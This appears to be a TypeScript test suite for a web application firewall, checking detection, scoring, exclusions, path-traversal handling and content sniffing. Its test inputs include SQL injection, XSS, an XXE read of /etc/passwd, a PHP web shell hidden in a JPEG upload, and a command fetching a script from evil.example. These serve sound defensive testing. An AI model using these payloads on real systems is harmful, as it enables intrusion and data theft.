import assert from 'node:assert/strict';
import { test } from 'node:test';
import { JSON_DEPTH_MAX, PARAMETERS_MAX } from './bounds.ts';
import { CLEAN } from './findings.ts';
import { headerList } from './request.ts';
import { inspectSpecimen } from './specimen.ts';
import { Waf } from './waf.ts';

const head = (waf: Waf, target: string) =>
  waf.inspectHead({ method: 'GET', target, headers: headerList([]) });
const body = (waf: Waf, contentType: string, text: string | Buffer, target = '/') =>
  waf.inspectBody({ target, contentType, bytes: Buffer.from(text), isTruncated: false });
const ids = (verdict: { matches: readonly { rule: { id: string } }[] }): string[] =>
  verdict.matches.map((match) => match.rule.id);

const hits = (specimen: string): boolean => inspectSpecimen(new Waf(), specimen).isHit;

test('a clean request gets the one shared verdict', () => {
  const waf = new Waf();
  assert.equal(head(waf, '/items?id=5&q=blue+shoes'), CLEAN);
  assert.equal(body(waf, 'application/json', '{"a":"b"}'), CLEAN);
  assert.equal(body(waf, 'application/json', '{"a":"it\'s (fine)"}'), CLEAN);
  assert.ok(Object.isFrozen(CLEAN));
});

test('a verdict names rule, place, parameter, snippet and why', () => {
  const [match] = head(new Waf(), '/?id=1%2520or%25201%253D1').matches;
  assert.equal(match!.rule.id, 'sql-condition');
  assert.equal(match!.place, 'query');
  assert.equal(match!.name, 'id');
  assert.equal(match!.round, 1);
  assert.match(match!.why, /condition/);
});

test('detect mode says hit and blocks nothing', () => {
  const waf = new Waf({ mode: 'detect' });
  const verdict = head(waf, '/?id=1+or+1=1');
  assert.ok(verdict.isHit);
  assert.ok(!waf.blocks(verdict));
  assert.ok(new Waf().blocks(verdict));
});

test('a score below the threshold is told and not a hit', () => {
  const waf = new Waf({ anomalyThreshold: 15 });
  const verdict = head(waf, '/?id=1+or+1=1');
  assert.equal(verdict.score, 5);
  assert.ok(!verdict.isHit);
});

test('a rule that speaks of several parameters counts once', () => {
  const verdict = head(new Waf(), '/?a=1+or+1=1&b=2+or+2=2');
  assert.deepEqual(
    verdict.matches.map((match) => match.name),
    ['a', 'b'],
  );
  assert.equal(verdict.score, 5);
});

test('head and body are joined, a rule counted once', () => {
  const waf = new Waf();
  const first = head(waf, '/?a=1+or+1=1');
  const second = body(
    waf,
    'application/x-www-form-urlencoded',
    'b=2+or+2=2&c=<script>alert(1)</script>',
  );
  assert.equal(waf.join(first, second).score, first.score + second.score - 5);
  assert.equal(waf.join(first, CLEAN), first);
  assert.equal(waf.join(CLEAN, second), second);
});

test('an exclusion holds for its rule, path and parameter, and only together', () => {
  const waf = new Waf({
    exclusions: [{ rule: 'sql-condition', path: '/console/*', parameter: 'query' }],
  });
  assert.equal(head(waf, '/console/run?query=1+or+1=1'), CLEAN);
  assert.ok(head(waf, '/console/run?other=1+or+1=1').isHit);
  assert.ok(head(waf, '/shop?query=1+or+1=1').isHit);
  assert.ok(head(waf, '/console/run?query=<script>alert(1)</script>').isHit);
});

test('an exclusion holds for the path that every server reads, and for no other', () => {
  const waf = new Waf({ exclusions: [{ path: '/cms/*' }, { path: '/%7euser/caf\u00e9' }] });
  const query = '?q=1+or+1=1';
  for (const path of [
    '/cms/login',
    '/%63ms/x',
    'http://a.example/cms/x',
    '/cms/a;v=1/b',
    '/~user/caf%c3%a9',
  ]) {
    assert.equal(head(waf, path + query), CLEAN, path);
  }
  for (const path of [
    '/cms/../login',
    '/x/../cms/login',
    '/cms/%2e%2e/login',
    '/cms/..;/login',
    '/cms/..%2flogin',
    '/cms/..%5clogin',
    '/cms/..\\login',
    '/cms//login',
    '/cms/%252e%252e/login',
    'http://a.example/cms/../login',
    'http://a.example/login',
    'http://cms/login',
    'cms/login',
    '/login?/cms/',
  ]) {
    assert.ok(head(waf, path.includes('?') ? `${path}&q=1+or+1=1` : path + query).isHit, path);
  }
});

test('an exclusion by class or by beginning covers its rules', () => {
  assert.equal(head(new Waf({ exclusions: [{ rule: 'sql' }] }), '/?a=1+or+1=1'), CLEAN);
  assert.equal(head(new Waf({ exclusions: [{ rule: 'sql-*' }] }), '/?a=1+or+1=1'), CLEAN);
  assert.equal(head(new Waf({ exclusions: [{ parameter: 'A' }] }), '/?a=1+or+1=1'), CLEAN);
});

test('an exclusion that cannot mean anything is refused with the mend', () => {
  assert.throws(() => new Waf({ exclusions: [{}] }), /needs a rule, a path or a parameter/);
  assert.throws(() => new Waf({ exclusions: [{ rule: 'sqli' }] }), /"sqli", which does not exist/);
  assert.throws(() => new Waf({ exclusions: [{ path: 'x' }] }), /begin with a slash/);
  assert.throws(() => new Waf({ exclusions: [{ path: '/a?b' }] }), /name the parameter/);
  assert.throws(() => new Waf({ exclusions: [{ path: '/a/../b*' }] }), /read differently/);
  assert.throws(() => new Waf({ anomalyThreshold: 0 }), /would block every request/);
});

test('a higher paranoia level asks more rules', () => {
  assert.equal(inspectSpecimen(new Waf(), 'query:q select * from users where id = 1'), CLEAN);
  assert.ok(
    inspectSpecimen(new Waf({ paranoiaLevel: 2 }), 'query:q select * from users where id = 1')
      .isHit,
  );
});

test('prose may quote code at level 1 and not at level 2', () => {
  const line =
    'json:content Why does `<img src=x onerror=alert(1)>` show a popup in the test of my app?';
  assert.equal(inspectSpecimen(new Waf(), line), CLEAN);
  assert.ok(inspectSpecimen(new Waf({ paranoiaLevel: 2 }), line).isHit);
});

test('a body past its limit is looked at up to there, and that counts a little', () => {
  const waf = new Waf({ bodyBytesLimit: 64 });
  const late = body(
    waf,
    'application/json',
    `{"a":"${'x'.repeat(100)}","b":"<script>alert(1)</script>"}`,
  );
  assert.deepEqual(ids(late), ['bound-body']);
  assert.ok(!late.isHit);
  const early = body(
    waf,
    'application/json',
    `{"b":"<script>alert(1)</script>","a":"${'x'.repeat(100)}"}`,
  );
  assert.ok(early.isHit);
  const cut = waf.inspectBody({
    target: '/',
    contentType: 'text/plain',
    bytes: Buffer.from('x'),
    isTruncated: true,
  });
  assert.deepEqual(ids(cut), ['bound-body']);
});

test('a request that hides behind a bound is a hit', () => {
  const waf = new Waf();
  assert.ok(
    body(waf, 'application/x-www-form-urlencoded', 'a=1&'.repeat(PARAMETERS_MAX + 1)).isHit,
  );
  assert.ok(body(waf, 'application/json', `${'['.repeat(JSON_DEPTH_MAX + 1)}"x'"`).isHit);
  const cookies = Array.from({ length: 300 }, (_, at) => `c${at}=1`).join('; ');
  assert.ok(
    waf.inspectHead({ method: 'GET', target: '/', headers: headerList([['Cookie', cookies]]) })
      .isHit,
  );
});

test('the body tells its kind where the content type does not', () => {
  const waf = new Waf();
  for (const type of ['', 'text/plain', 'application/octet-stream', 'application/x-unknown']) {
    assert.ok(body(waf, type, '{"q":"1\' or \'1\'=\'1"}').isHit, type);
  }
  assert.ok(body(waf, '', 'q=1%27+or+%271%27%3D%271').isHit);
  assert.ok(
    body(waf, 'application/x-www-form-urlencoded', '{"q":"<script>alert(1)</script>"}').isHit,
  );
});

test('XML in UTF-16 is read as its parser reads it', () => {
  const xml =
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
  const wide = Buffer.from(`\ufeff${xml}`, 'utf16le');
  assert.ok(body(new Waf(), 'application/xml', wide).isHit);
  assert.ok(body(new Waf(), 'application/xml', Buffer.from(wide).swap16()).isHit);
});

test('an image is not read as text', () => {
  const bytes = Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 37) & 255));
  assert.equal(body(new Waf(), 'image/png', bytes), CLEAN);
});

test('an uploaded image with a program inside is seen', () => {
  const part =
    '--b\r\nContent-Disposition: form-data; name="f"; filename="a.jpg"\r\n\r\n\xff\xd8\xff<?php system($_GET["c"]); ?>\r\n--b--';
  assert.ok(body(new Waf(), 'multipart/form-data; boundary=b', Buffer.from(part, 'latin1')).isHit);
});

test('a JSON document within a string is read as one, whatever it is called', () => {
  const call = (command: string) =>
    JSON.stringify({ function: { name: 'bash', arguments: JSON.stringify({ command }) } });
  assert.equal(hits(`rawjson ${call('ls -la /var/log && tail -n 50 /var/log/syslog')}`), false);
  assert.equal(hits(`rawjson ${call("x'; DROP TABLE users--")}`), true);
  assert.equal(hits('rawjson {"a":"{\\"b\\":{\\"$ne\\":null}}"}'), true);
});

test('an exclusion for a key holds for the JSON within its string too', () => {
  const body = `rawjson ${JSON.stringify({ arguments: JSON.stringify({ q: "1' or '1'='1" }) })}`;
  assert.equal(hits(body), true);
  for (const parameter of ['arguments', 'q']) {
    const waf = new Waf({ exclusions: [{ path: '/', parameter }] });
    assert.equal(inspectSpecimen(waf, body).isHit, false, parameter);
  }
});

test('a document of many lines may show a program; what reaches for the browser may not', () => {
  const lines = 'set -e␊cd /tmp␊rm -f a.txt␊echo done | tee log␊npm test && npm run build␊';
  assert.equal(hits(`json:content ${lines}`), false);
  assert.equal(hits(`query:content ${lines}`), true);
  assert.equal(hits(`json:content ${lines}<script>fetch('//evil.example')</script>`), true);
});

test('a value in base64 is read as what it says, wherever it stands', () => {
  const hidden = Buffer.from("1' UNION SELECT password FROM users--").toString('base64');
  for (const place of ['query:id', 'form:id', 'json:id', 'cookie:id', 'target /a'])
    assert.equal(
      hits(`${place.startsWith('target') ? `${place}/` : `${place} `}${hidden}`),
      true,
      place,
    );
  const prose = Buffer.from("It's fine; 5 or 6 of them = enough").toString('base64');
  assert.equal(hits(`query:note ${prose}`), false);
});

test("a browser's name is read as any value where it does not begin like one", () => {
  assert.equal(hits('header:user-agent 1 AND SLEEP(5)'), true);
  assert.equal(hits('header:user-agent a;wget http://evil.example/x.sh'), true);
  assert.equal(
    hits('header:user-agent Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101'),
    false,
  );
});

test('what a referrer held in its query is read as a value', () => {
  assert.equal(hits('header:referer https://x.example/?a=b&id=1%20AND%20SLEEP(5)'), true);
  assert.equal(hits('header:referer https://x.example/?q=men%27s+shoes&sort=price'), false);
});
